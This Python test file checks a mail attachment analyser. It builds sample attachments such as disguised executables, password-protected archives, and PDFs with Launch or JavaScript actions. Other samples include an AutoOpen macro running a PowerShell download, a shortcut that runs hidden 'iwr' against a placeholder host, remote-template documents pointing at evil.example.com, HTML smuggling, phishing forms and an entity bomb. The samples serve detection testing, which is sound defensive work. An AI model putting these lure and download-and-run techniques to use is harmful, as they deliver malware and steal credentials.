#!/usr/bin/env python3
"""Attachments are known for what they are and looked into. Files are made by other people's programs where there are
some (zip, 7zr, genisoimage, openssl, reportlab, qpdf, openpyxl, python-docx, xlwt, Python itself) and by hand for what
only attackers make. Then EICAR's file in the wrappings of ../shared/testsets, when that is here.

    test/attachments.py [NAME ...]    cases whose names contain one of these
"""
import base64, binascii, bz2, email.message, glob, gzip, hashlib, io, lzma, os, shutil, struct, subprocess, sys, tarfile, tempfile, zipfile, zlib
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'lib'))
import cfb
from judge import Judge, SHARED

EXE = b'MZ' + b'\0' * 58 + struct.pack('<I', 64) + b'PE\0\0' + b'\x4c\1' + b'\0' * 200
URL = 'https://login.example.net/verify?id=7'
WORK = tempfile.mkdtemp(prefix='attachments-')
CASES = []


def case(name, file, attached=None, text='Please see the attachment.', label=None, subject='hello', **want):
    """A letter with one attachment, made by a function when it is asked for; want: see check()."""
    CASES.append((name, file, attached, text, label, subject, want))


def png(side=64):
    rows = b''.join(b'\0' + bytes(255 * ((x // 8 + y // 8) % 2) for x in range(side)) for y in range(side))

    def chunk(kind, data):
        return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))
    return b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', side, side, 8, 0, 0, 0, 0)) + \
        chunk(b'IDAT', zlib.compress(rows)) + chunk(b'IEND', b'')


def run(*command, cwd=WORK):
    subprocess.run(command, cwd=cwd, check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


def write(name, data):
    path = os.path.join(WORK, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'wb') as f:
        f.write(data)
    return path


def read(name):
    with open(os.path.join(WORK, name), 'rb') as f:
        return f.read()


def zip_of(files):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data, zipfile.ZIP_STORED if name == 'mimetype' else None)
    return out.getvalue()


# ---- names and types ----

case('program', lambda: EXE, 'setup.exe', types=['exe'], signals=['file-program'])
case('program as picture', lambda: EXE, 'holiday.jpg', types=['exe'], facts=['disguised'], signals=['file-program-disguised'])
case('double name', lambda: EXE, 'invoice.pdf.exe', facts=['double-name'], signals=['file-double-name'])
case('turned name', lambda: EXE, 'invoice\u202efdp.exe', facts=['bidi-name'], signals=['file-bidi-name'])
case('blanks in name', lambda: EXE, 'invoice.pdf' + ' ' * 60 + '.exe', facts=['blanks-name'], signals=['file-blanks-name'])
case('script', lambda: b'var x = new ActiveXObject("WScript.Shell");', 'scan.js', types=['js'], signals=['file-script'])
case('picture of another kind', png, 'photo.jpg', types=['png'], signals=[], exactly=True)
case('text', lambda: b'hello', 'notes.txt', types=['text'], signals=[], exactly=True)
case('page named as table', lambda: b'<html><body><table><tr><td>Sales</td></tr></table></body></html>', 'report.xls',
     types=['html'], not_signals=['file-disguised'], text='x' * 500)
case('archive as document', lambda: zip_of({'a': 'x'}), 'contract.pdf', types=['zip', 'text'], signals=['file-disguised'])
case('chinese name', lambda: '采购合同已经审核完毕，请点击 https://cn.example.org/a 确认并签字。'.encode('gb18030'), '合同.txt', texts=['采购合同已经审核完毕'], links=['https://cn.example.org/a'])

# ---- archives ----

case('zip', lambda: zip_of({'a.exe': EXE}), 'a.zip', types=['zip', 'exe'], signals=['archive-program'])
case('program with a Chinese name in a zip', lambda: zip_of({'合同/发票.exe': EXE}), 'a.zip', types=['zip', 'exe'], names=['合同/发票.exe'], signals=['archive-program'])
case('zip of sources', lambda: zip_of({f'src/{i}.js': b'x' for i in range(20)}), 'src.zip', not_signals=['archive-program'])


def zip_password():
    write('secret.exe', EXE)
    run('zip', '-q', '-P', 'Winter2024!', 'locked.zip', 'secret.exe')
    return read('locked.zip')


case('zip with password', zip_password, 'a.zip', facts=['encrypted'], signals=['archive-encrypted', 'archive-encrypted-program'],
     not_signals=['archive-password-told'])
case('zip with password told', zip_password, 'a.zip', 'The password is: Winter2024!.', types=['zip', 'exe'], facts=['opened'],
     signals=['archive-password-told', 'archive-encrypted-program'])
case('zip with password told in Chinese', zip_password, 'a.zip', '请查收附件，解压密码：Winter2024!', types=['zip', 'exe'], facts=['opened'])


def seven(*options):
    write('x.exe', EXE)
    run('7zr', 'a', *options, 'x.7z', 'x.exe')
    data = read('x.7z')
    os.unlink(os.path.join(WORK, 'x.7z'))
    return data


case('7z', seven, 'x.7z', types=['7z', 'exe'], signals=['archive-program'])
case('7z with hidden names', lambda: seven('-psesame', '-mhe=on'), 'x.7z', facts=['encrypted'], signals=['archive-encrypted'])


def tar():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w:gz') as t:
        i = tarfile.TarInfo('folder/run.bat')
        i.size = 9
        t.addfile(i, io.BytesIO(b'@echo off'))
    return out.getvalue()


case('tar.gz', tar, 'x.tar.gz', types=['gz', 'bat'], names=['folder/run.bat'])
case('gzip', lambda: gzip.compress(EXE), 'setup.exe.gz', types=['gz', 'exe'], names=['setup.exe'])
case('bzip2', lambda: bz2.compress(EXE), 'setup.bz2', types=['bz2', 'exe'])
case('xz', lambda: lzma.compress(EXE), 'setup.xz', types=['xz', 'exe'])


def iso():
    write('iso/run.exe', EXE)
    run('genisoimage', '-quiet', '-J', '-r', '-o', 'x.iso', 'iso')
    return read('x.iso')


case('disk', iso, 'x.iso', types=['iso', 'exe'], signals=['file-disk', 'archive-program'])


def nested(depth, inner=EXE):
    data = zip_of({'x.exe': inner})
    for i in range(depth):
        data = zip_of({f'{i}.zip': data})
    return data


case('nested', lambda: nested(3), 'x.zip', types=['zip', 'exe'], signals=['archive-nested', 'archive-program'])
case('too deep', lambda: nested(20), 'x.zip', facts=['deep'], signals=['file-deep'], limited=True)
case('bomb', lambda: zip_of({'x.bin': bytes(300 << 20)}), 'x.zip', facts=['bomb'], signals=['file-bomb'], limited=True)
case('thousands of files', lambda: zip_of({str(i): b'x%d' % i for i in range(3000)}), 'x.zip', facts=['limit'], limited=True)
case('names in GBK', lambda: zip_of({'A' * 10: b'x'}).replace(b'A' * 10, '合同文件1.'.encode('gb18030')[:10]), 'x.zip', names=['合同文件1.'])
case('cut archive', lambda: zip_of({'a.exe': EXE * 50})[:300], 'a.zip', types=['zip'])
case('uuencoded', lambda: b'begin 644 x.exe\n' + b''.join(binascii.b2a_uu(EXE[i:i + 45]) for i in range(0, len(EXE), 45)) +
     b'`\nend\n', 'x.uue', types=['uue', 'exe'])
case('uuencoded in the text', None, text='see\n\nbegin 644 run.exe\n' + ''.join(
    binascii.b2a_uu(EXE[i:i + 45]).decode() for i in range(0, len(EXE), 45)) + '`\nend\n', types=['exe'], names=['run.exe'])

# ---- PDF ----


def pdf(draw, **options):
    from reportlab.pdfgen import canvas
    out = io.BytesIO()
    c = canvas.Canvas(out, **options)
    draw(c)
    c.showPage()
    c.save()
    return out.getvalue()


def page(c):
    c.drawString(72, 700, 'Your invoice is ready')
    c.linkURL(URL, (72, 690, 300, 720))


def chinese_page(c):
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    pdfmetrics.registerFont(UnicodeCIDFont('STSong-Light'))
    c.setFont('STSong-Light', 14)
    c.drawString(72, 700, '您的账户已被冻结，请点击链接验证')


def picture_page(c):
    from reportlab.lib.utils import ImageReader
    c.drawImage(ImageReader(io.BytesIO(png())), 100, 100)


def qpdf(*options, draw=page):
    write('in.pdf', pdf(draw))
    run('qpdf', *options, 'in.pdf', 'out.pdf')
    return read('out.pdf')


def pdf_with(objects):
    return b'%PDF-1.4\n' + b'\n'.join(b'%d 0 obj\n%s\nendobj' % (i + 1, o) for i, o in enumerate(objects)) + b'\ntrailer<</Root 1 0 R>>\n'


case('pdf', lambda: pdf(page), 'a.pdf', types=['pdf'], texts=['Your invoice is ready'], links=[URL], signals=['pdf-lure'])
case('pdf in Chinese', lambda: pdf(chinese_page), 'a.pdf', texts=['您的账户已被冻结，请点击链接验证'])
case('pdf with object streams', lambda: qpdf('--object-streams=generate'), 'a.pdf', texts=['Your invoice is ready'], links=[URL])
case('pdf with RC4', lambda: qpdf('--allow-weak-crypto', '--encrypt', '', 'owner', '40', '--'), 'a.pdf', texts=['Your invoice is ready'], links=[URL])
case('pdf with RC4 of 128 bits', lambda: qpdf('--allow-weak-crypto', '--encrypt', '', 'owner', '128', '--use-aes=n', '--'), 'a.pdf', texts=['Your invoice'], links=[URL])
case('pdf with AES-128', lambda: qpdf('--allow-weak-crypto', '--encrypt', '', 'owner', '128', '--use-aes=y', '--'), 'a.pdf', texts=['Your invoice'], links=[URL])
case('pdf with AES-256', lambda: qpdf('--encrypt', '', 'owner', '256', '--'), 'a.pdf', texts=['Your invoice'], links=[URL])
case('pdf with AES-256 of revision 5', lambda: qpdf('--encrypt', '', 'owner', '256', '--force-R5', '--allow-insecure', '--'), 'a.pdf', texts=['Your invoice'], links=[URL])
case('pdf with password', lambda: qpdf('--encrypt', 'user', 'owner', '256', '--'), 'a.pdf', facts=['encrypted'], signals=['document-encrypted'])
case('pdf with a picture', lambda: pdf(picture_page), 'a.pdf', pictures=1)
case('pdf broken', lambda: pdf(page).replace(b'startxref', b'xx').replace(b'xref', b'yyyy'), 'a.pdf', texts=['Your invoice'], links=[URL])
case('pdf with a program', lambda: pdf_with([b'<</Type/Catalog/OpenAction 2 0 R>>', b'<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>']), 'a.pdf',
     facts=['launch'], signals=['pdf-launch'])
case('pdf with a script', lambda: pdf_with([b'<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL("https://js.example.com/a"))>>>>']), 'a.pdf',
     facts=['script', 'autorun'], signals=['pdf-script', 'pdf-autorun'], links=['https://js.example.com/a'])
case('pdf with hidden names', lambda: pdf_with([b'<</Type/Catalog/O#70enAction<</S/J#61vaScript/J#53(x)>>>>']), 'a.pdf', facts=['exploit', 'script'])
case('pdf with a file', lambda: pdf_with([b'<</Type/Filespec/F(run.exe)/EF<</F 2 0 R>>>>',
     b'<</Type/EmbeddedFile/Length %d>>stream\n%s\nendstream' % (len(EXE), EXE)]), 'a.pdf', types=['pdf', 'exe'], names=['run.exe'], signals=['document-program'])

# ---- office ----


def docx():
    import docx
    d = docx.Document()
    d.add_paragraph('Quarterly figures & more')
    p = d.add_paragraph()
    r = d.part.relate_to(URL, docx.opc.constants.RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    from docx.oxml.shared import OxmlElement, qn
    h = OxmlElement('w:hyperlink')
    h.set(qn('r:id'), r)
    p._p.append(h)
    d.add_picture(io.BytesIO(png()))
    out = io.BytesIO()
    d.save(out)
    return out.getvalue()


def remote_docx(kind, target):
    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
            f'Target="{target}" TargetMode="External"/></Relationships>')
    base = zipfile.ZipFile(io.BytesIO(docx()))
    return zip_of({**{n: base.read(n) for n in base.namelist()}, 'word/_rels/settings.xml.rels': rels})


MACRO = ('Sub AutoOpen()\r\nDim s\r\nSet s = CreateObject("WScript.Shell")\r\n'
         's.Run "powershell -c (New-Object Net.WebClient).DownloadFile(...)"\r\nEnd Sub\r\n')


def docm():
    base = zipfile.ZipFile(io.BytesIO(docx()))
    return zip_of({**{n: base.read(n) for n in base.namelist()}, 'word/vbaProject.bin': cfb.cfb(cfb.project(MACRO))})


def xlsx():
    import openpyxl
    b = openpyxl.Workbook()
    b.active['A1'] = 'Salary table'
    b.active['A2'].hyperlink = URL
    b.active['A3'] = f'=HYPERLINK("https://cell.example.com/x","open")'
    out = io.BytesIO()
    b.save(out)
    return out.getvalue()


def xls():
    import xlwt
    b = xlwt.Workbook()
    s = b.add_sheet('one')
    s.write(0, 0, '工资表 2024')
    s.write(1, 0, 'bank account ' * 900)
    s.write(2, 0, 'the end')
    out = io.BytesIO()
    b.save(out)
    return out.getvalue()


def odt():
    return zip_of({'mimetype': 'application/vnd.oasis.opendocument.text', 'content.xml':
                   '<office:document-content xmlns:office="o" xmlns:text="t" xmlns:xlink="x"><text:p>Dear customer</text:p>'
                   f'<text:p><text:a xlink:href="{URL}">here</text:a></text:p></office:document-content>',
                   'Basic/Standard/Module1.xml': '<x>Sub Main</x>'})


def bomb_docx():
    base = zipfile.ZipFile(io.BytesIO(docx()))
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + ''.join(f'<!ENTITY {chr(98 + i)} "' + f'&{chr(97 + i)};' * 10 + '">' for i in range(8)) + ']>'
    return zip_of({**{n: base.read(n) for n in base.namelist() if n != 'word/document.xml'},
                   'word/document.xml': bomb + '<w:document xmlns:w="w"><w:p><w:t>&i; after</w:t></w:p></w:document>'})


case('docx', docx, 'a.docx', types=['docx'], texts=['Quarterly figures & more'], links=[URL], pictures=1, signals=[], exactly=True)
case('docx with template from elsewhere', lambda: remote_docx('attachedTemplate', 'https://evil.example.com/t.dotm'), 'a.docx',
     facts=['remote'], signals=['document-remote'], links=['https://evil.example.com/t.dotm'])
case('docx with template of the house', lambda: remote_docx('attachedTemplate', 'file:///C:/Templates/Normal.dotm'), 'a.docx', not_signals=['document-remote'])
case('docx like an exploit', lambda: remote_docx('oleObject', 'https://evil.example.com/t.html!'), 'a.docx', facts=['remote', 'exploit'], signals=['document-exploit'])
case('docm', docm, 'a.docm', types=['docm'], facts=['macro', 'autorun', 'suspicious-macro'], signals=['macro-autorun', 'macro-suspicious'])
case('docx with entities', bomb_docx, 'a.docx', texts=['after'])
case('xlsx', xlsx, 'a.xlsx', types=['xlsx'], texts=['Salary table'], links=[URL, 'https://cell.example.com/x'], signals=[], exactly=True)
case('xls', xls, 'a.xls', types=['xls'], texts=['工资表 2024', 'bank account bank', 'the end'], signals=[], exactly=True)
case('doc', lambda: cfb.word('Dear Sir,\r\x13 HYPERLINK "%s" \x14click\x15\r您好' % URL), 'a.doc', types=['doc'], texts=['Dear Sir,', 'click', '您好'], links=[URL])
case('doc with macros', lambda: cfb.word('x', Macros=cfb.project(MACRO)), 'a.doc', types=['doc'], facts=['macro', 'autorun', 'suspicious-macro'])
case('doc with honest macros', lambda: cfb.word('x', Macros=cfb.project('Sub Sum()\r\nRange("A1").Value = 1\r\nEnd Sub\r\n')), 'a.doc',
     facts=['macro'], signals=['macro'], not_signals=['macro-autorun', 'macro-suspicious'])
case('doc with a package', lambda: cfb.word('x', ObjectPool={'_1': {'\1Ole10Native': cfb.ole10native('run.exe', EXE)}}), 'a.doc', types=['doc', 'exe'],
     names=['run.exe'], signals=['document-program'])
case('doc encrypted', lambda: cfb.cfb({'EncryptionInfo': b'x' * 100, 'EncryptedPackage': b'y' * 5000}), 'a.docx', types=['office-encrypted'],
     facts=['encrypted'], signals=['document-encrypted'], not_signals=['file-disguised'])
case('odt', odt, 'a.odt', types=['odt'], texts=['Dear customer'], links=[URL], facts=['macro'])
case('msg', lambda: cfb.cfb({'__properties_version1.0': b'\0' * 32, '__substg1.0_0037001F': 'Subject here'.encode('utf-16le'),
                             '__substg1.0_1000001F': f'Body {URL}'.encode('utf-16le'), '__attach_version1.0_#00000000': {
                                 '__substg1.0_3707001F': 'run.exe'.encode('utf-16le'), '__substg1.0_37010102': EXE}}), 'a.msg',
     types=['msg', 'exe'], names=['run.exe'], texts=['Subject here', 'Body'], links=[URL], signals=['file-program'])
case('rtf', lambda: rb'{\rtf1\ansi\ansicpg936 Hello \'c4\'e3\'ba\'c3 \u20320?{\field{\*\fldinst{HYPERLINK "' + URL.encode() + rb'"}}{\fldrslt here}}\par}', 'a.rtf',
     types=['rtf'], texts=['Hello 你好 你', 'here'], links=[URL])
case('rtf with template', lambda: rb'{\rtf1{\*\template http://evil.example.com/t.dot}x}', 'a.doc', facts=['remote'], signals=['document-remote'])


def rtf_object(cls, native, junk=b''):
    data = struct.pack('<II', 0x501, 2) + struct.pack('<I', len(cls) + 1) + cls + b'\0' + bytes(8) + struct.pack('<I', len(native)) + native
    hexed = junk.join(data[i:i + 4].hex().encode() for i in range(0, len(data), 4))
    return rb'{\rtf1{\object\objemb\objupdate{\*\objdata ' + hexed + b'}}}'


PACKAGE = cfb.ole10native('run.js', b'var x;')[4:]
case('rtf with a package', lambda: rtf_object(b'Package', PACKAGE), 'a.rtf', types=['rtf', 'js'], names=['run.js'], facts=['embedded', 'autorun'], signals=['document-program'])
case('rtf like an exploit', lambda: rtf_object(b'Equation.3', cfb.cfb({'Equation Native': bytes(64)}), b'~#'), 'a.rtf', facts=['exploit'], signals=['document-exploit'])
case('onenote', lambda: bytes.fromhex('e4525c7b8cd8a74daeb15378d02996d3') + bytes(500) + bytes.fromhex('e716e3bd65261145a4c48d4d0b7a9eac') +
     struct.pack('<QIQ', len(EXE), 0, 0) + EXE + bytes(50), 'a.one', types=['one', 'exe'], signals=['document-program', 'document-onenote'])
case('ofd', lambda: zip_of({'OFD.xml': '<OFD/>', 'Doc_0/Pages/Page_0/Content.xml': '<Page><TextObject><TextCode>电子发票</TextCode></TextObject></Page>'}), 'a.ofd',
     types=['ofd'], texts=['电子发票'])

# ---- mail, invitations, pages, shortcuts ----


def tnef():
    def attribute(level, kind, data):
        return bytes([level]) + struct.pack('<II', kind, len(data)) + data + struct.pack('<H', sum(data) & 0xffff)
    return struct.pack('<IH', 0x223e9f78, 1) + attribute(1, 0x18004, b'Subject in Outlook\0') + attribute(2, 0x69002, bytes(14)) + \
        attribute(2, 0x18010, b'run.exe\0') + attribute(2, 0x6800f, EXE)


def inner_mail():
    m = email.message.EmailMessage()
    m['From'], m['To'], m['Subject'], m['Date'] = 'a@example.org', 'b@example.org', 'inner subject', 'Mon, 1 Jan 2024 00:00:00 +0000'
    m.set_content(f'inner text {URL}')
    m.add_attachment(EXE, maintype='application', subtype='octet-stream', filename='inner.exe')
    return m.as_bytes()


INVITE = ('BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Payroll review\r\nDESCRIPTION:Please confirm\\, at https://cal.exam\r\n ple.com/a?b=1\\nThanks\r\n'
          'ORGANIZER;CN="HR Team":mailto:hr@example.org\r\nURL:https://url.example.com/\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n')
SMUGGLED = '<html><script>var b="%s";var blob=new Blob([atob(b)]);a.href=URL.createObjectURL(blob);a.download="x.zip";</script></html>'


def lnk():
    def text(s):
        return struct.pack('<H', len(s)) + s.encode('utf-16le')
    return b'L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F' + struct.pack('<I', 0x80 | 8 | 32) + bytes(52) + \
        text('..\\..\\Windows\\System32\\cmd.exe') + text('/c powershell -w hidden iwr https://lnk.example.com/a')


def p7m():
    write('mail.eml', inner_mail())
    run('openssl', 'req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes', '-keyout', 'k.pem', '-out', 'c.pem', '-subj', '/CN=x')
    run('openssl', 'cms', '-sign', '-nodetach', '-binary', '-in', 'mail.eml', '-signer', 'c.pem', '-inkey', 'k.pem', '-outform', 'DER', '-out', 'smime.p7m')
    return read('smime.p7m')


case('winmail.dat', tnef, 'winmail.dat', label='application/ms-tnef', types=['tnef', 'exe'], names=['run.exe'], texts=['Subject in Outlook'], signals=['file-program'])
case('eml', inner_mail, 'x.eml', types=['eml', 'exe'], texts=['inner subject', 'inner text'], links=[URL], names=['inner.exe'], signals=['file-program'])
case('p7m', p7m, 'smime.p7m', label='application/pkcs7-mime', types=['p7m', 'eml', 'exe'], texts=['inner text'], links=[URL])
case('invitation', lambda: INVITE.encode(), 'invite.ics', label='text/calendar', types=['ics'], texts=['Payroll review', 'HR Team'],
     links=['https://cal.example.com/a?b=1', 'https://url.example.com/'])
case('card', lambda: b'BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Bob\r\nitem1.URL:https://card.example.com/\r\nEND:VCARD\r\n', 'x.vcf', types=['vcf'], texts=['Bob'],
     links=['https://card.example.com/'])
case('page that asks for a password', lambda: f'<html><body>Sign in<form action="{URL}"><input name=u><input type=password></form></body></html>'.encode(), 'Login.html',
     types=['html'], facts=['form'], links=[URL], texts=['Sign in'], signals=['page-password', 'page-only'])
case('page that builds a file', lambda: (SMUGGLED % base64.b64encode(zip_of({'a.exe': EXE * 3})).decode()).encode(), 'doc.html', types=['html', 'zip', 'exe'],
     facts=['smuggling'], signals=['page-smuggling', 'archive-program'])
case('page that writes a page', lambda: ('<script>document.write(unescape("%s"))</script>' % ''.join(
    '%%%02X' % b for b in f'<form action="{URL}"><input type=password></form>'.encode())).encode(), 'doc.htm', facts=['smuggling'], links=[URL])
case('page with pictures inside', lambda: ('<html><body>Newsletter text<img src="data:image/png;base64,%s"><script>a()</script></body></html>' %
     base64.b64encode(png(200)).decode()).encode(), 'news.html', not_signals=['page-smuggling'])
case('drawing with a script', lambda: f'<svg xmlns="http://www.w3.org/2000/svg"><script>location.href="{URL}"</script></svg>'.encode(), 'x.svg', types=['svg'],
     facts=['script'], links=[URL], signals=['drawing-script'])
case('shortcut', lnk, 'x.lnk', types=['lnk'], facts=['launch'], links=['https://lnk.example.com/a'], signals=['file-shortcut'])
case('web shortcut', lambda: f'[InternetShortcut]\r\nURL={URL}\r\n'.encode(), 'x.url', types=['url'], links=[URL], signals=['file-web-shortcut'])
case('shortcut in a zip', lambda: zip_of({'Invoice.lnk': lnk()}), 'x.zip', types=['zip', 'lnk'], signals=['archive-program'])


# ---- asking ----

def letter(name, file, attached, text, label, subject):
    m = email.message.EmailMessage()
    m['From'], m['To'], m['Subject'] = 'alice@example.org', 'bob@example.net', subject
    m.set_content(text)
    if file:
        main, sub = (label or 'application/octet-stream').split('/')
        m.add_attachment(file(), maintype=main, subtype=sub, filename=attached)
    return write('letters/' + ''.join(c if c.isalnum() else '-' for c in name) + '.eml', m.as_bytes())


def missing(want, have):
    return [x for x in want if x not in have]


OF_FILES = ('file-', 'archive-', 'document-', 'pdf-', 'macro', 'page-', 'drawing-', 'picture-', 'qr-')


def check(answer, want):
    """What is wrong, in words; empty when all is as wanted."""
    wrong = []
    details = answer['details']
    files, text = details['files'], details['attached']
    signals = [s['name'] for s in answer['signals'] if s['name'].startswith(OF_FILES)]
    told = {'types': [f['type'] for f in files], 'names': [f['name'] for f in files],
            'facts': {x for f in files for x in f['facts']}, 'links': [l['url'] for l in details['links']], 'signals': signals}
    for what, have in told.items():
        if missing(want.get(what, []), have):
            wrong.append(f'{what} {missing(want[what], have)} missing in {sorted(set(have))}')
    wrong += [f'text {t!r} missing in {text!r}' for t in want.get('texts', []) if t not in text]
    wrong += [f'signal {s} is wrong' for s in want.get('not_signals', []) if s in signals]
    if want.get('exactly') and set(signals) != set(want['signals']):
        wrong.append(f'signals {signals}')
    if len(details['pictures']) < want.get('pictures', 0):
        wrong.append(f'{len(details["pictures"])} pictures')
    if answer['limited'] != want.get('limited', False):
        wrong.append(f'limited: {answer["limited"]}')
    return wrong


# What cannot show up: this wrapping holds two bytes more than EICAR's file.
NOT_EICAR = {'eicar.com.txt'}


def eicar(judge, count):
    archive = os.path.join(SHARED, 'testsets', 'av.tar.zst')
    if not os.path.exists(archive):
        print('eicar: skipped: ../shared/testsets/av.tar.zst is not here')
        return
    run('tar', '-x', '-f', archive, '-C', WORK)
    plain = hashlib.sha256(read('av/eicar.com')).hexdigest()
    for path in sorted(glob.glob(os.path.join(WORK, 'av', '*'))):
        name = os.path.basename(path)
        with open(path, 'rb') as f:
            data = f.read()
        if not name.endswith('.eml'):
            path = letter(name, lambda: data, name, 'x', None, 'x')
        found = plain in [f['sha256'] for f in judge.ask(path=path)['details']['files']]
        count(f'eicar {name}', found or name in NOT_EICAR, [] if found else ['its file was not found'])


def main():
    wanted = sys.argv[1:]
    passed = failed = 0

    def count(name, good, wrong):
        nonlocal passed, failed
        passed, failed = passed + bool(good), failed + (not good)
        print(f'ok {name}' if good else f'FAIL {name}: ' + '; '.join(wrong), flush=True)
    with Judge('letter') as judge:
        for name, *made, want in CASES:
            if wanted and not any(w in name for w in wanted):
                continue
            wrong = check(judge.ask(path=letter(name, *made)), want)
            count(name, not wrong, wrong)
        if not wanted or 'eicar' in wanted:
            eicar(judge, count)
    shutil.rmtree(WORK)
    print(f'{passed} passed, {failed} failed')
    return 1 if failed else 0


sys.exit(main())
